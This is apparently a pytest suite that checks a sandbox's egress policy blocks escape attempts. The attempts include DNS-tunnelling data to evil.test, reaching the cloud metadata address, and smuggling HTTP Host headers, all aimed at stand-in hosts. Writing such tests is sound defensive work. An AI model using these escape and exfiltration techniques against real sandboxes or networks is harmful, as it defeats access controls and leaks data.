"""What a run with a network cannot do: names, ports and addresses that its policy does not name, and the
ways around (attack catalogue, E)."""

import json

import pytest

from conftest import attempts
from harness import wait_for
from world import API, API6

TRY = """
import errno, json, socket, sys, time
def reach(host, port, family=socket.AF_INET, kind=socket.SOCK_STREAM, send=b""):
    start = time.monotonic()
    try:
        with socket.socket(family, kind) as one:
            one.settimeout(30)
            one.connect((host, port))
            if send:
                one.sendall(send)
            word = repr(one.recv(100)) if kind == socket.SOCK_STREAM or send else "connected"
    except socket.gaierror as error:
        word = "EAI_NONAME" if error.errno == socket.EAI_NONAME else "EAI_AGAIN"
    except OSError as error:
        word = errno.errorcode.get(error.errno, repr(error))
    return word if time.monotonic() - start < 20 else "slow " + word
"""


def reach(client, calls, hosts, **more):
    """Outcomes of reach(…) for each of the calls, and the run's attempts."""
    return client.look(TRY + f"print(json.dumps([{', '.join(calls)}]))", hosts, **more)


def test_other_names(client, world):
    """E-02: no byte of the question leaves."""
    mark = world.mark()
    words, tried = reach(client, ['reach("evil.test", 443)', 'reach("secret-data.evil.test", 80)'], ["api.test"])
    assert words == ["EAI_NONAME"] * 2
    assert tried == [("evil.test", None, "denied_host"), ("secret-data.evil.test", None, "denied_host")]
    assert world.since(mark) == []


def test_other_names_in_node(client, world):
    mark = world.mark()
    code = "fetch('https://evil.test/').catch((error) => console.log(JSON.stringify(error.cause.code)))"
    assert client.look(code, ["api.test"], lang="node") == ("ENOTFOUND", [("evil.test", None, "denied_host")])
    assert world.since(mark) == []


def test_addresses_instead_of_names(client, world):
    """E-03, E-04: the host's real address, other synthetic ones, and what the namespace does not have."""
    mark = world.mark()
    words, tried = reach(client, [f'reach("{API}", 80)', 'reach("198.18.200.7", 443)', 'reach("198.19.255.254", 80)',
                                  'reach("169.254.169.254", 80)', f'reach("{API6}", 80, socket.AF_INET6)',
                                  'reach("::ffff:10.9.9.9", 80, socket.AF_INET6)'], ["api.test"])
    assert words == ["ENETUNREACH", "ECONNRESET", "ECONNRESET", "ENETUNREACH", "ENETUNREACH", "ENETUNREACH"]
    assert tried == [("198.18.200.7", 443, "denied_host"), ("198.19.255.254", 80, "denied_host")]
    assert world.since(mark) == []


def test_other_ports(client, world):
    """E-15"""
    mark = world.mark()
    words, tried = reach(client, ['reach("api.test", 22)', 'reach("api.test", 6379)', 'reach("api.test", 8080)'],
                         ["api.test"])
    assert words == ["ECONNREFUSED"] * 3 and tried == []
    assert not any(line.startswith("tcp") for line in world.since(mark))


def test_ports_are_of_their_hosts(client):
    words, tried = reach(client, ['reach("api.test", 5432)', 'reach("other.test", 5432)'],
                         ["api.test", "other.test:5432"])
    assert words == ["ECONNRESET", "b'hello\\n'"]
    assert tried == [("api.test", 5432, "denied_port"), ("other.test", 5432, "allowed")]


def test_wildcards(client):
    """E-10"""
    names = ["a.wild.test", "a.b.wild.test", "wild.test", "awild.test"]
    words, tried = reach(client, [f'reach("{name}", 5432)' for name in names], ["*.wild.test:5432"])
    assert words == ["b'hello\\n'"] * 3 + ["EAI_NONAME"]
    assert sorted(tried, key=str) == sorted(
        [("awild.test", None, "denied_host"), *((name, 5432, "allowed") for name in names[:3])], key=str)


def test_the_originals_wildcard(client):
    result = client.run("print(1)", ["*wild.test"])
    assert result["warnings"] == ['policy.allowedHosts[0]: read as "*.wild.test"; write it so']
    assert result["network"] == []


def test_udp_and_more(client, world):
    """E-14: QUIC, other resolvers, DNS over TLS, raw packets."""
    mark = world.mark()
    code = TRY + """
def make(*kind):
    try:
        socket.socket(*kind).close()
        return "made"
    except OSError as error:
        return errno.errorcode[error.errno]
host = socket.gethostbyname("api.test")
print(json.dumps([
    reach(host, 443, kind=socket.SOCK_DGRAM, send=b"x"), reach("8.8.8.8", 53, kind=socket.SOCK_DGRAM, send=b"x"),
    reach(host, 853), make(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), make(socket.AF_PACKET, socket.SOCK_RAW),
    reach("127.0.0.1", 443)]))
"""
    words, tried = client.look(code, ["api.test"])
    assert words == ["ECONNREFUSED", "ENETUNREACH", "ECONNREFUSED", "EAFNOSUPPORT", "EAFNOSUPPORT", "ECONNRESET"]
    assert tried == [("127.0.0.1", 443, "denied_host")]
    assert {line.split()[0] for line in world.since(mark)} == {"dns"}


SNI = """
import json, socket, ssl
def hello(name, first=b""):
    context = ssl.create_default_context(cafile="ca.pem")
    context.check_hostname = False
    try:
        raw = socket.create_connection(("api.test", 443), 30)
        raw.sendall(first)
        with context.wrap_socket(raw, server_hostname=name) as one:
            return "ok"
    except OSError as error:
        return type(error).__name__
print(json.dumps([hello("api.test"), hello("API.Test"), hello("evil.test"), hello("other.test"), hello(None),
                  hello("api.test", b"GET / HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n"), hello("api.test.evil.test")]))
"""


def test_sni(client, world):
    mark = world.mark()
    words, tried = client.look(SNI, ["api.test", "other.test"])
    assert words[:2] == ["ok", "ok"] and "ok" not in words[2:]
    assert sorted(verdict for _, _, verdict in tried) == ["allowed"] * 2 + ["sni_mismatch"] * 5

    def seen():
        return sorted(line.lower() for line in world.since(mark) if line[:3] in ("tcp", "sni"))

    expected = ["sni api.test"] * 2 + [f"tcp {API} 443"] * 2
    wait_for(lambda: len(seen()) >= len(expected), "the hosts have written it down")
    assert seen() == expected


def test_hello_in_pieces(client):
    code = """
import json, socket, ssl, time
context = ssl.create_default_context(cafile="ca.pem")
incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
tls = context.wrap_bio(incoming, outgoing, server_hostname="api.test")
with socket.create_connection(("api.test", 443)) as raw:
    while True:
        try:
            tls.do_handshake()
            break
        except ssl.SSLWantReadError:
            for byte in outgoing.read():
                raw.sendall(bytes([byte]))
            incoming.write(raw.recv(65536))
print(json.dumps(tls.version()))
"""
    version, tried = client.look(code, ["api.test"])
    assert version == "TLSv1.3" and tried == [("api.test", 443, "allowed")]


HTTP = {
    "other host": "GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n",
    "no host": "GET / HTTP/1.1\\r\\n\\r\\n",
    "two hosts": "GET / HTTP/1.1\\r\\nHost: api.test\\r\\nHost: evil.test\\r\\n\\r\\n",
    "other target": "GET http://evil.test/ HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n",
    "connect": "CONNECT evil.test:443 HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n",
    "bare line feeds": "GET / HTTP/1.1\\nHost: api.test\\n\\n",
    "folded": "GET / HTTP/1.1\\r\\nX: y\\r\\n Host: evil.test\\r\\nHost: api.test\\r\\n\\r\\n",
    "space before colon": "GET / HTTP/1.1\\r\\nHost : evil.test\\r\\nHost: api.test\\r\\n\\r\\n",
    "http2": "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n",
    "ssh": "SSH-2.0-OpenSSH\\r\\n",
    "tls": "\\x16\\x03\\x01\\x00\\x01\\x01",
}


@pytest.mark.parametrize("kind", HTTP)
def test_http_host(client, world, kind):
    """E-08"""
    mark = world.mark()
    words, tried = reach(client, [f'reach("api.test", 80, send=b"{HTTP[kind]}")'], ["api.test", "evil.test"])
    assert words == ["ECONNRESET"] and tried == [("api.test", 80, "host_mismatch")]
    assert not any(line.startswith("tcp") for line in world.since(mark))


def test_upgrade_is_let_through(client):
    upgrade = "GET /chat HTTP/1.1\\r\\nHost: api.test\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n"
    words, tried = reach(client, [f'reach("api.test", 80, send=b"{upgrade}")'], ["api.test"])
    assert words[0].startswith("b'HTTP/1.1 200") and tried == [("api.test", 80, "allowed")]


def test_tunnel_by_questions(client, world):
    """E-12: a thousand labels, of kinds that carry data."""
    mark = world.mark()
    code = """
import json, os, socket, struct
one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
one.connect(("127.0.0.1", 53))
one.settimeout(30)
codes = set()
for i in range(1000):
    label = os.urandom(16).hex().encode()
    question = struct.pack(">HHHHHH", i, 0x100, 1, 0, 0, 0) + bytes([len(label)]) + label + b"\\x04evil\\x04test\\0"
    one.send(question + struct.pack(">HH", (1, 16, 10, 15, 255)[i % 5], 1))
    answer = one.recv(512)
    assert answer[:2] == question[:2]
    codes.add(answer[3] & 15)
print(json.dumps(sorted(codes)))
"""
    result = client.run(code, ["api.test"])
    assert result["stdout"] == "[3]\n", result
    assert len(result["network"]) == 256 and result["networkUnlisted"] == 744
    assert world.since(mark) == []


def test_questions_over_tcp(client):
    code = """
import json, socket, struct
question = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"\\3api\\4test\\0" + struct.pack(">HH", 1, 1)
with socket.create_connection(("127.0.0.1", 53)) as one:
    one.sendall((struct.pack(">H", len(question)) + question) * 2)
    file = one.makefile("rb")
    answers = [file.read(struct.unpack(">H", file.read(2))[0]) for _ in range(2)]
print(json.dumps([answer[-4:].hex()[:4] for answer in answers]))
"""
    assert client.look(code, ["api.test"])[0] == ["c612", "c612"]


def test_names_that_are_not(client):
    """A name that is allowed but does not exist, and one that nobody answers for."""
    words, tried = reach(client, ['reach("none.wild.test", 80)', 'reach("slow.test", 80)'], ["*.wild.test", "slow.test"])
    assert words[0] == "EAI_NONAME" and words[1] in ("EAI_AGAIN", "EAI_NONAME")
    assert ("none.wild.test", None, "resolve_failed") in tried and ("slow.test", None, "resolve_failed") in tried


def test_nobody_at_home(client):
    words, tried = reach(client, ['reach("api.test", 9999)', 'reach("dead.test", 9999)'],
                         ["api.test:9999", "dead.test:9999"])
    assert words == ["ECONNRESET"] * 2
    assert tried == [("api.test", 9999, "connect_failed"), ("dead.test", 9999, "connect_failed")]


def test_proxies_change_nothing(client, world):
    """E-19"""
    mark = world.mark()
    code = "import urllib.request\ntry:\n    urllib.request.urlopen('http://evil.test/')\nexcept OSError:\n    print('no')"
    result = client.run(code, ["api.test"], env={"HTTP_PROXY": f"http://{API}:80", "http_proxy": "http://10.9.9.9:80"})
    assert result["stdout"] == "no\n" and world.since(mark) == []


def test_no_network_is_no_network(client):
    """N-12: an empty list is off; so is a network that nobody asked for."""
    for policy in ({"allowNet": True, "allowedHosts": []}, {"allowNet": False, "allowedHosts": ["api.test"]}, {}):
        code = TRY + 'print(json.dumps([reach("127.0.0.1", 53), reach("198.18.1.0", 80), reach("api.test", 80)]))'
        result = client.post({"lang": "python", "code": code, "policy": policy}).json()
        assert json.loads(result["stdout"]) == ["ECONNREFUSED", "ENETUNREACH", "EAI_AGAIN"], result
        assert "network" not in result


def test_networks_of_runs_are_apart(client):
    """A run with one leaves nothing to the next, with or without."""
    for _ in range(6):
        assert reach(client, ['reach("api.test", 5432)'], ["api.test:5432"])[0] == ["b'hello\\n'"]
        words, tried = reach(client, ['reach("198.18.1.0", 5432)', 'reach("other.test", 443)'], ["other.test:6000"])
        assert words == ["ECONNREFUSED"] * 2 and tried == []
        result = client.post({"lang": "python", "code": TRY + "print(reach('198.18.1.0', 5432))"}).json()
        assert result["stdout"] == "ENETUNREACH\n", result


@pytest.mark.parametrize("lang", ["python", "node"])
def test_own_loopback_works(client, lang):
    """A server of the run's own, beside the network."""
    code = {
        "python": "import socket; s = socket.create_server(('127.0.0.1', 8000)); "
                  "c = socket.create_connection(('127.0.0.1', 8000)); a = s.accept()[0]; c.send(b'x'); print(a.recv(1))",
        "node": "const s = require('net').createServer((c) => { c.end('x'); s.close(); }).listen(8000, () => "
                "require('net').connect(8000).on('data', (d) => console.log(String(d))));",
    }[lang]
    result = client.run(code, ["api.test"], lang=lang)
    assert result["outcome"] == "ok" and result["network"] == [], result


def test_attempts_are_the_runs_own(client):
    """Two at a time do not see each other."""
    import concurrent.futures

    def one(i):
        name = ("api.test", "other.test")[i % 2]
        result = client.run(TRY + f'print(reach("{name}", 5432))', [f"{name}:5432"])
        return attempts(result) == [(name, 5432, "allowed")] and result["stdout"] == "b'hello\\n'\n"

    with concurrent.futures.ThreadPoolExecutor(8) as pool:
        assert all(pool.map(one, range(32)))
